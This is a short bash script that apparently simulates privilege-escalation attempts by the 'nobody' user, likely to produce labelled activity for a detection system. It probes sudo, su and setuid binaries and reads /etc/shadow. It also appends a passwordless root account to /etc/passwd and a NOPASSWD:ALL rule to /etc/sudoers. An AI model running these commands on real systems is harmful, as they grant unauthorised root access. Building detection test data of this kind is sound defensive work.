#!/bin/bash
# family: privilege-escalation
# user: nobody
# actors: bash|su|find|cat
# (bash itself appends to /etc/passwd and sudoers; `ls -la /root` fails like any typo: a bystander)
# Privilege-escalation attempts from a shell as nobody: sudo -n, su, setuid hunting, writable system files.
RANDOM=$PG_SEED
command -v sudo >/dev/null && sudo -n true 2>/dev/null
su root -c id </dev/null >/dev/null 2>&1
find /usr/bin /usr/sbin /bin -perm -4000 -type f 2>/dev/null | head -$((5 + RANDOM % 20)) > "$TMPDIR/suid"
cat /etc/shadow 2>/dev/null
echo "hacker::0:0::/root:/bin/bash" >> /etc/passwd 2>/dev/null
echo "nobody ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers 2>/dev/null
[ $((RANDOM % 2)) -eq 0 ] && find /etc -writable -type f 2>/dev/null | head -5 > /dev/null
ls -la /root 2>/dev/null
exit 0
